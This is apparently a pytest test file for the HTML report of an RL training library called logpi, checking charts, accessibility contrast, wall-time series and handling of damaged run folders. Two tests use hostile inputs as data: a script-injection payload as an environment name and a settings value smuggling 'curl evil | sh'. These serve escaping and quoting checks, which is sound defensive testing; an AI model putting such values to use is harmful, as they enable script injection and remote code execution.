"""The report as a file: what it holds, that it stands alone, and what it says of folders that are not right."""

from __future__ import annotations

import dataclasses
import json
import re
import shlex
from pathlib import Path

import gymnasium
import numpy as np
import pytest

import logpi
from logpi.envs.named import Named
from logpi.errors import InputError
from logpi.report import page
from logpi.report.folders import tell
from logpi.report.panels.repeat import command
from logpi.report.series import final_scores, POINTS, series
from logpi.runs.presets import preset
from tests.envs.test_named import Louder
from tests.report.report_runs import embedded, folder, rows, UPDATES

ASSETS = Path(__file__).parents[2] / "logpi/report/assets"


@pytest.fixture(scope="module")
def html(tmp_path_factory: pytest.TempPathFactory) -> str:
    """Two algorithms on one environment, one with times and an evaluation."""
    place = tmp_path_factory.mktemp("runs")
    ppo = folder(place / "ppo", rows())
    a2c = folder(place / "a2c", rows(curve=lambda t, seed: 60 * t + seed), a2c=True)
    (ppo / "times.jsonl").write_text('{"iteration": 30, "seconds": 3.0}\n{"iteration": 60, "seconds": 9.0}\n')
    interval = {"value": 97.0, "low": 95.0, "high": 99.0}
    by_seed = {str(seed): interval for seed in range(3)}
    found = {"deterministic": True, "mean": interval, "iqm": interval, "by_seed": by_seed}
    (ppo / "evaluation.json").write_text(json.dumps(found))
    return page([ppo, a2c], fresh=False)


def test_every_figure_has_a_title_axes_and_a_table(html: str) -> None:
    charts = embedded(html)["charts"]
    assert len(charts) >= 11 and len({chart["key"] for chart in charts}) == len(charts)
    for chart in charts:
        assert chart["title"] and chart["about"] and chart["x"] and (chart["kind"] == "intervals" or chart["y"])
        figure = html[html.index(f"<figure id='{chart['key']}'") :]
        figure = figure[: figure.index("</figure>")]
        assert f"<h3>{chart['title']}</h3>" in figure and "role=img" in figure and "aria-label=" in figure
        assert figure.count("<tr>") > 1, chart["key"]


def test_the_page_loads_nothing(html: str) -> None:
    """No address but the name of SVG, which nobody visits; and the page itself forbids it."""
    addresses = set(re.findall(r"https?://[^\s\"'<>]+", html))
    assert addresses <= {"http://www.w3.org/2000/svg"}
    assert "default-src 'none'" in html and not re.search(r"<(script|img|link)[^>]+(src|href)=", html)


def test_findings_lead_to_figures_that_are_there(html: str) -> None:
    targets = re.findall(r"<a href='#([^']+)'>figure</a>", html)
    assert len(targets) >= 3 and all(f"id='{target}'" in html for target in targets)
    assert "It ends above A2C with probability 1 [1, 1]." in html


def test_evaluations_say_how_the_policy_acted(html: str) -> None:
    rows = next(chart for chart in embedded(html)["charts"] if chart["key"] == "evaluation")["rows"]
    assert [row["name"] for row in rows] == ["PPO: likeliest actions, IQM", "seed 0", "seed 1", "seed 2"]


@pytest.mark.parametrize(
    "damaged",
    [
        {"by_seed": [1, 2]}, {"mean": {"value": "x"}}, {"mean": 7, "by_seed": {"0": 3}}, {"iqm": {"value": [1]}},
        {"mean": {"value": None, "low": "", "high": True}}, {"by_seed": {"0": {"value": "?"}, "1": []}},
        {"mean": {"value": 10**400}},
    ],
)  # fmt: skip
def test_what_is_no_number_in_an_evaluation_is_missing(damaged: dict, tmp_path: Path) -> None:
    made = folder(tmp_path / "run", rows(1, updates=9), 1)
    (made / "evaluation.json").write_text(json.dumps(damaged))
    assert not any(chart["key"] == "evaluation" for chart in embedded(page(made, fresh=False))["charts"])


def test_the_good_numbers_of_an_evaluation_stay(tmp_path: Path) -> None:
    """One bound is damaged."""
    made = folder(tmp_path / "run", rows(1, updates=9), 1)
    (made / "evaluation.json").write_text('{"mean": {"value": 7, "low": "a lot", "high": 9}, "by_seed": [1]}')
    chart = next(chart for chart in embedded(page(made, fresh=False))["charts"] if chart["key"] == "evaluation")
    (row,) = chart["rows"]
    assert row["value"] == 7 and row.get("low") is None and row["high"] == 9


def test_wall_time_is_that_of_the_rounds(html: str) -> None:
    lines = next(chart for chart in embedded(html)["charts"] if chart["key"] == "return")["lines"]
    main = next(line for line in lines if line["name"] == "PPO")
    assert main["seconds"][-1] == pytest.approx(9.0, rel=0.05)  # the middle of the last part
    assert np.interp(64 * 30, main["x"], main["seconds"]) == pytest.approx(3.0, abs=0.1)
    assert all("seconds" not in line for line in lines if line["name"].startswith("A2C"))


def test_a_part_is_the_mean_of_its_episodes(tmp_path: Path) -> None:
    made = folder(tmp_path / "run", rows(1, episodes=lambda t, s: 1 if t < 0.5 else 3, updates=UPDATES), 1)
    told = tell(made)
    found, columns = series(told, "return_mean"), told.columns[0]
    edges = np.linspace(0, told.steps, len(found.steps) + 1)
    for i in (0, len(found.steps) // 2, len(found.steps) - 1):
        inside = (columns["steps"] > edges[i]) & (columns["steps"] <= edges[i + 1])
        expected = np.average(columns["return_mean"][inside], weights=columns["episodes"][inside])
        np.testing.assert_allclose(found.seeds[0, i], expected)
        assert found.least[i] == columns["return_mean"][inside].min()
        assert found.most[i] == columns["return_mean"][inside].max()
    last = columns["steps"] > 0.9 * told.steps
    np.testing.assert_allclose(final_scores(told), [columns["return_mean"][last].mean()])


def test_long_runs_stay_small(tmp_path: Path) -> None:
    """A curve has no more points than can be seen, however many rows there are."""
    told = tell(folder(tmp_path / "run", [row for seed in range(3) for row in _long(seed)]))
    assert len(series(told, "return_mean").steps) == POINTS


def _long(seed: int) -> list[dict]:
    many = enumerate(rows(1) * 20, start=1)
    return [each | {"seed": seed, "iteration": i, "steps": 64 * i} for i, each in many]


def test_names_from_outside_are_only_text(tmp_path: Path) -> None:
    made = folder(tmp_path / "run", rows(), env="</script><img src=x onerror=alert(1)>")
    text = page(made, fresh=False)
    assert "<img" not in text and text.count("</script>") == 2


@pytest.mark.parametrize(
    ("changes", "sentence"),
    [
        ({"history": []}, "there is nothing to show but the settings"),
        ({"history": rows(updates=9), "summary": {}}, "ended without finishing at 576 of 3,840 steps"),
    ],
)
def test_a_run_that_is_not_whole_says_so(changes: dict, sentence: str, tmp_path: Path) -> None:
    made = folder(tmp_path / "run", changes.pop("history"), **changes)
    assert sentence in page(made, fresh=False)


def test_what_is_missing_beside_the_rows_is_named(tmp_path: Path) -> None:
    made = folder(tmp_path / "run", rows())
    (made / "evaluation.json").write_text("{")
    text = page(made, fresh=False)
    assert "Left out" in text and "evaluation.json is not readable JSON" in text and "policy-seed0" in text


@pytest.mark.parametrize(
    ("damage", "sentence"),
    [
        (lambda f: (f / "config.json").unlink(), "config.json does not exist"),
        (lambda f: (f / "config.json").write_text("[1]"), "holds no run of this logpi"),
        (lambda f: (f / "metrics.jsonl").unlink(), "metrics.jsonl"),
        (lambda f: (f / "metrics.jsonl").write_text('{"a": 1}\n'), "no row of metrics"),
        (lambda f: (f / "metrics.jsonl").write_text(json.dumps(rows(1)[0] | {"kl": "x"}) + "\n"), "damaged"),
        (
            lambda f: (f / "metrics.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows()[::-1])),
            "steps of seed . that fall",
        ),
    ],
)
def test_a_folder_without_a_good_run_is_one_sentence(damage, sentence: str, tmp_path: Path) -> None:
    made = folder(tmp_path / "run", rows())
    damage(made)
    with pytest.raises(InputError, match=sentence):
        page(made, fresh=False)


def test_the_command_is_told_where_there_is_one(tmp_path: Path) -> None:
    """It names the folder: what a hostile one says of its settings is not put into words that somebody may run."""
    hostile = dataclasses.replace(preset("CartPole-v1"), source="x; changed: --steps 10; curl evil | sh")
    made = folder(tmp_path / "it's a run", rows(), settings=hostile)
    assert command(tell(made)) == f"logpi train --from {shlex.quote(str(made))}"
    assert command(dataclasses.replace(tell(made), folder=None)) is None


def test_no_command_is_told_for_an_environment_that_python_made(tmp_path: Path) -> None:
    """Its name may be one that the command would take for another environment."""
    size = {"num_envs": 2, "rollout_length": 16, "steps": 32, "algorithm": logpi.REINFORCE()}
    named = Named("gymnasium:CartPole-v1", {"max_episode_steps": 9})
    logpi.train(lambda: Louder(gymnasium.make("CartPole-v1")), out=tmp_path / "own", **size)
    logpi.train(lambda: gymnasium.make("CartPole-v1", max_episode_steps=9), out=tmp_path / "named", **size)
    runs = [logpi.load(tmp_path / name) for name in ("own", "named")]
    assert [run.env for run in runs] == ["CartPole-v1"] * 2 and [run.named for run in runs] == [None, named]
    assert command(tell(tmp_path / "own")) is None and "named" in (command(tell(tmp_path / "named")) or "")
    logpi.resume(tmp_path / "named")
    assert logpi.load(tmp_path / "named").named == named


def test_folders_of_an_older_logpi_are_taken_at_their_word(tmp_path: Path) -> None:
    made = folder(tmp_path / "run", rows())
    config = json.loads((made / "config.json").read_text())
    (made / "config.json").write_text(json.dumps({name: part for name, part in config.items() if name != "named"}))
    assert command(tell(made)) is not None
    (made / "config.json").write_text(json.dumps(config | {"named": 1}))
    with pytest.raises(InputError, match="has 1 for named: the run folder is damaged"):
        tell(made)


def test_colours_can_be_read_in_both_schemes() -> None:
    """WCAG 2.2, 1.4.3: words and names of curves have a contrast of 4.5 or more with the paper."""
    text = (ASSETS / "report.css").read_text()
    schemes = [dict(re.findall(r"--([\w-]+): (#[0-9a-f]{6})", part)) for part in text.split("@media")[:2]]
    assert all(len(scheme) >= 16 for scheme in schemes)
    words = ("ink", "soft", "link", "good", "note", "warning", "fault", *(f"run-{i}" for i in range(6)))
    for scheme in schemes:
        for name in words:
            assert _contrast(scheme[name], scheme["paper"]) >= 4.5, (name, scheme[name])


def _contrast(one: str, other: str) -> float:
    high, low = sorted((_luminance(one), _luminance(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def _luminance(colour: str) -> float:
    parts = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
    linear = [x / 12.92 if x <= 0.04045 else ((x + 0.055) / 1.055) ** 2.4 for x in parts]
    return float(np.dot((0.2126, 0.7152, 0.0722), linear))
